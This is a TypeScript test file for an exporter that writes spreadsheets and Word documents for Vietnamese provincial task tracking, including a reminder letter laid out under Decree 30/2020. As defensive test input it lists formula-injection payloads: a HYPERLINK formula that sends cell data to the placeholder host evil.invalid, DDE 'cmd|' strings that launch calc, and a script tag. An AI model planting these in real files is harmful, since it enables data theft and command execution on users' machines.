// Looks into the files: typed cells, nothing a spreadsheet would run, well-formed documents in the decree's layout.

import { describe, expect, it } from "vitest";
import { hostileTexts } from "../testing/hostile-texts.ts";
import { readZip } from "../testing/read-zip.ts";
import { wellFormed } from "../testing/well-formed.ts";
import type { OverdueTask } from "./overdue-task.ts";
import { pageDocx } from "./page-docx.ts";
import { reminderLetter } from "./reminder-letter.ts";
import { rateText, type Sheet } from "./sheet.ts";
import { sheetPage } from "./sheet-page.ts";
import { sheetXlsx } from "./sheet-xlsx.ts";

/** What a spreadsheet must not run and a document must not break on; every one stands in a text of a sheet. */
const hostile = [
  ...Object.values(hostileTexts).flat(),
  '=HYPERLINK("http://evil.invalid?"&A1,"xem")',
  "=cmd|' /C calc'!A0",
  "+84 912 345 678",
  "-2+3+cmd|' /C calc'!A0",
  "- Gạch đầu dòng là chuyện thường",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\u0000=1+1",
  "\u0007\u001b[31mđỏ",
  "<script>alert(1)</script>",
  "]]><x/>&amp;&#0;",
  "nửa \ud800 cặp",
  "\ufffe",
];

const sheet = (texts: readonly string[]): Sheet => ({
  title: "Thử =1+1",
  subtitles: ["=2+2"],
  columns: [
    { title: "=TT", kind: "number", width: 5 },
    { title: "Chữ", kind: "text", width: 30 },
    { title: "Ngày", kind: "date", width: 12 },
    { title: "Tỷ lệ", kind: "rate", width: 10 },
  ],
  rows: [
    ...texts.map((text, index) => ({
      kind: "row" as const,
      cells: [index + 1, text, { date: "2017-06-30" }, { basisPoints: 9863 }],
    })),
    { kind: "heading", cells: ["=3+3"] },
    { kind: "total", cells: [null, "Tổng", null, null] },
  ],
  notes: ["+chú thích"],
});

describe("a spreadsheet", () => {
  it("keeps every text a text, whatever it begins with", async () => {
    const files = readZip(await sheetXlsx(sheet(hostile), "thử"));
    for (const [path, text] of files) if (/\.(xml|rels)$/.test(path)) wellFormed(text);
    const cells = files.get("xl/worksheets/sheet1.xml") ?? "";
    expect(cells).not.toMatch(/<f[ >/]/);
    expect(cells).not.toContain("hyperlink");
    const texts = [...cells.matchAll(/<c r="B\d+"[^>]*?(?: t="(\w+)")[^>]*>/g)].map(([, type]) => type);
    expect(texts.length).toBeGreaterThanOrEqual(hostile.length);
    expect(new Set(texts)).toEqual(new Set(["s"]));
    const shared = files.get("xl/sharedStrings.xml") ?? "";
    expect(shared).toContain("- Gạch đầu dòng là chuyện thường");
    expect(shared).toContain("&lt;script&gt;");
  });

  it("has numbers, dates and rates as such, and prints one page wide", async () => {
    const files = readZip(await sheetXlsx(sheet(["một"]), "thử"));
    const cells = files.get("xl/worksheets/sheet1.xml") ?? "";
    const values = [...cells.matchAll(/<c r="([ACD]5)"[^>]*><v>([\d.]+)<\/v>/g)].map(([, cell, value]) => [
      cell,
      value,
    ]);
    // 30/6/2017 is day 42,916 of a spreadsheet's calendar.
    expect(values).toEqual([
      ["A5", "1"],
      ["C5", "42916"],
      ["D5", "0.9863"],
    ]);
    expect(cells).toContain('fitToPage="1"');
    expect(cells).toMatch(/<pageSetup[^>]*orientation="landscape"/);
    expect(files.get("xl/styles.xml")).toContain("Times New Roman");
  });
});

describe("a document", () => {
  it("holds the same table, well-formed, on wide paper", async () => {
    const files = readZip(await pageDocx(sheetPage(sheet(hostile), "vi")));
    for (const [path, text] of files) if (/\.(xml|rels)$/.test(path)) wellFormed(text);
    const text = files.get("word/document.xml") ?? "";
    expect(text).toContain("98,63\u00a0%");
    expect(text).toContain("30/06/2017");
    expect(text).toMatch(/<w:pgSz[^>]*w:w="16838"[^>]*w:h="11907"|<w:pgSz[^>]*w:orient="landscape"/);
  });

  const overdue: OverdueTask = {
    planId: "plan",
    task: "Lập kế hoạch riêng",
    document: "Kế hoạch 42/KH-UBND ngày 20/01/2017",
    issuer: "ubnd-tinh",
    office: "van-phong",
    agency: { id: "so-y-te", name: "Sở Y tế" },
    requested: false,
    viceChair: "Phó Chủ tịch Trần Văn B",
    due: "2017-02-28",
    daysOverdue: 12,
    cause: null,
    proposal: null,
  };

  it("drafts a reminder as Decree 30/2020 lays out a letter", async () => {
    const page = reminderLetter(
      {
        sender: "Văn phòng UBND tỉnh",
        above: "Ủy ban nhân dân tỉnh Nghệ An",
        issuer: "Ủy ban nhân dân tỉnh Nghệ An",
        agency: "Sở Y tế",
        overdue: [overdue],
        today: "2017-02-09",
      },
      "vi",
    );
    const files = readZip(await pageDocx(page));
    const text = files.get("word/document.xml") ?? "";
    const words = [...text.matchAll(/<w:t(?: [^>]*)?>([^<]*)<\/w:t>/g)].map(([, run]) => run);
    expect(words.slice(0, 8)).toEqual([
      "ỦY BAN NHÂN DÂN TỈNH NGHỆ AN",
      "VĂN PHÒNG UBND TỈNH",
      "Số:         /",
      "V/v đôn đốc thực hiện nhiệm vụ quá hạn",
      "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
      "Độc lập - Tự do - Hạnh phúc",
      "Nghệ An, ngày      tháng 02 năm 2017",
      "DỰ THẢO",
    ]);
    expect(words).toContain("Kính gửi: Sở Y tế");
    expect(words).toContain("28/02/2017");
    expect(words).toContain("- Phó Chủ tịch Trần Văn B (để b/c);");
    expect(words.some((run) => run?.endsWith("./."))).toBe(true);
    // Millimetres in twentieths of a point: 20 above and below, 30 left, 20 right; A4.
    expect(text).toMatch(
      /<w:pgMar[^>]*w:top="1134"[^>]*w:right="1134"[^>]*w:bottom="1134"[^>]*w:left="1701"/,
    );
    expect(text).toMatch(/<w:pgSz[^>]*w:w="11907"[^>]*w:h="16840"/);
    expect(text).toContain("<w:titlePg");
    expect(files.get("word/styles.xml")).toContain("Times New Roman");
    expect([...files].some(([path, xml]) => path.startsWith("word/header") && xml.includes("PAGE"))).toBe(
      true,
    );
  });
});

it("writes rates as each language does", () => {
  expect([rateText(9863, "vi"), rateText(10_000, "en"), rateText(5, "vi")]).toEqual([
    "98,63\u00a0%",
    "100.00\u00a0%",
    "0,05\u00a0%",
  ]);
});
